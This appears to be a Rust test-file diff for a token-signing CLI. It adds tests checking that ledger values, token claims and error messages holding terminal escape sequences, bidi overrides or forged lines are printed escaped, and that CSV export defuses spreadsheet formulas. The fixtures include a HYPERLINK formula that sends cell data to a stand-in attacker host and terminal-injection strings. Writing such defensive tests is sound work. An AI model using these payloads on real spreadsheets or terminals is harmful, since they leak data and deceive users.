@@ -513,7 +513,7 @@ fn wrong_passphrase_is_a_usage_error() {
     assert_fails(&r, 2, "wrong passphrase for home/signer.key");
     assert!(!s.path("t.jws").exists());
     // Also from --passphrase-file, which wins over the environment.
-    s.write("wrong.txt", "nope\n");
+    s.write_secret("wrong.txt", "nope\n");
     let ca_root = |passphrase_file: &str| {
         s.cmd(&[
             "ca",
@@ -533,7 +533,7 @@ fn wrong_passphrase_is_a_usage_error() {
     assert!(r.2.contains("wrong passphrase"));
     assert!(!s.path("r.pem").exists());
     // The right one from a file works even with a wrong environment variable.
-    s.write("right.txt", format!("{PASS}\n"));
+    s.write_secret("right.txt", format!("{PASS}\n"));
     let r = run(ca_root("right.txt").env("TKA_PASSPHRASE", "not the passphrase"));
     assert_eq!(r.0, 0, "{r:?}");
     assert_eq!(s.snapshot("home"), before);
@@ -720,7 +720,7 @@ fn insecure_no_passphrase_writes_a_plaintext_key() {
         .env_remove("TKA_PASSPHRASE"));
     assert_eq!(r.0, 0, "{r:?}");
     // Contradictory flags.
-    s.write("pass.txt", "x\n");
+    s.write_secret("pass.txt", "x\n");
     let r = s.tka(&["key", "generate", "--out", "k2.key", "--insecure-no-passphrase", "--passphrase-file", "pass.txt"]);
     assert_eq!(r.0, 2, "{r:?}");
     assert!(!s.path("k2.key").exists());
@@ -961,4 +961,101 @@ fn request_create_into_closed_pipe_does_not_panic() {
         assert!(!r.2.contains("panicked"), "{args:?}: {r:?}");
         assert_eq!(r.0, 0, "{args:?}: {r:?}");
     }
+}
+
+// ---------------------------------------------------------------------------
+// Output sanitising (review F7, output side): a value from outside that holds
+// an escape sequence, a line break or a bidi override is printed escaped, so
+// it can neither forge a `name: VALUE` or `error:` line nor drive the
+// terminal; CSV export neutralises spreadsheet formulas.
+
+/// A CMID as a hostile request would carry it: clears the screen, starts a
+/// forged `serial:` line, reverses the text after it.
+const EVIL: &str = "C1\u{1b}[2J\nserial: forged\u{202e}";
+/// How the CLI shows [`EVIL`].
+const EVIL_SHOWN: &str = "C1\\u{1b}[2J\\nserial: forged\\u{202e}";
+
+/// No raw escape, line break inside a value, or format character in `out`.
+#[track_caller]
+fn assert_printable(out: &str) {
+    assert!(!out.contains('\u{1b}') && !out.contains('\u{202e}'), "raw control characters printed: {out:?}");
+    assert!(!out.lines().any(|l| l.starts_with("serial: forged")), "a forged line was printed: {out:?}");
+}
+
+/// An issued token whose ledger row now says `cmid` and `product` (written
+/// with SQLite directly, as a ledger filled before issuance validated them
+/// would hold); returns its serial.
+fn ledger_row_with(s: &Sandbox, cmid: &str, product: &str) -> String {
+    let home = s.issued();
+    let c = rusqlite::Connection::open(tka::ledger::default_path(&home)).unwrap();
+    c.execute("UPDATE tokens SET cmid = ?1, product = ?2", rusqlite::params![cmid, product]).unwrap();
+    c.query_row("SELECT serial FROM tokens", [], |r| r.get(0)).unwrap()
+}
+
+#[test]
+fn ledger_values_with_escapes_and_newlines_are_printed_escaped() {
+    let s = Sandbox::new();
+    let serial = ledger_row_with(&s, EVIL, "p\u{1b}[31m\tX");
+    let out = s.ok(&["ledger", "show", &serial, "--home", "home"]);
+    assert_printable(&out);
+    assert!(out.lines().any(|l| l == format!("machine: {EVIL_SHOWN}")), "{out}");
+    assert!(out.lines().any(|l| l == "product: p\\u{1b}[31m\\tX"), "{out}");
+    let out = s.ok(&["ledger", "list", "--home", "home"]);
+    assert_printable(&out);
+    assert_eq!(out.lines().count(), 1, "{out}");
+    let cols: Vec<&str> = out.trim_end().split('\t').collect();
+    assert_eq!(cols.len(), 6, "a tab in a value does not add a column: {out:?}");
+    assert_eq!(&cols[1..3], ["p\\u{1b}[31m\\tX", EVIL_SHOWN]);
+    // JSON escapes them too, and the values it carries are unchanged.
+    let out = s.ok(&["ledger", "list", "--home", "home", "--json"]);
+    assert_printable(&out);
+    let rows: Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(rows[0]["machine"], EVIL);
+}
+
+#[test]
+fn csv_export_neutralises_spreadsheet_formulas() {
+    let s = Sandbox::new();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    ledger_row_with(&s, "@SUM(1+1)", formula);
+    let out = s.ok(&["ledger", "export", "--format", "csv", "--home", "home"]);
+    let lines: Vec<&str> = out.lines().collect();
+    assert_eq!(lines.len(), 2, "{out}");
+    assert!(
+        lines[1].contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"'@SUM(1+1)\","),
+        "{out}"
+    );
+    // No field of the record starts a formula once its quoting is removed.
+    assert!(!lines[1].split(',').any(|f| f.trim_start_matches('"').starts_with(['=', '+', '-', '@'])), "{out}");
+    // A value with an escape and a line break stays one escaped record.
+    let s = Sandbox::new();
+    ledger_row_with(&s, EVIL, "p");
+    let out = s.ok(&["ledger", "export", "--format", "csv", "--home", "home"]);
+    assert_printable(&out);
+    assert_eq!(out.lines().count(), 2, "{out}");
+    assert!(out.contains(&format!(",{EVIL_SHOWN},")), "{out}");
+}
+
+#[test]
+fn token_claims_with_escapes_are_printed_escaped() {
+    let s = Sandbox::new();
+    s.issued();
+    let (h, mut p, sig) = jws_parts(&s.read("token.jws"));
+    p["sub"] = EVIL.into();
+    s.write("evil.jws", jws_join(&h, &p, &sig));
+    let out = s.ok(&["token", "inspect", "evil.jws"]);
+    assert_printable(&out);
+    assert!(out.lines().any(|l| l == format!("machine: {EVIL_SHOWN}")), "{out}");
+}
+
+#[test]
+fn error_lines_quoting_input_are_escaped() {
+    let s = Sandbox::new();
+    s.issued();
+    let cmid = "X\u{1b}]0;pwned\u{7}\nerror: forged\u{2066}";
+    let r = s.tka(&["token", "verify", "token.jws", "--trust", "home/root.pem", "--machine", cmid]);
+    // One error line (assert_fails counts them), naming the value escaped.
+    assert_fails(&r, 1, "token is bound to machine");
+    assert!(r.2.contains("this machine is X\\u{1b}]0;pwned\\u{7}\\nerror: forged\\u{2066}"), "{:?}", r.2);
+    assert!(!r.2.contains('\u{1b}') && !r.2.contains('\u{7}') && !r.2.contains('\u{2066}'), "{:?}", r.2);
 }
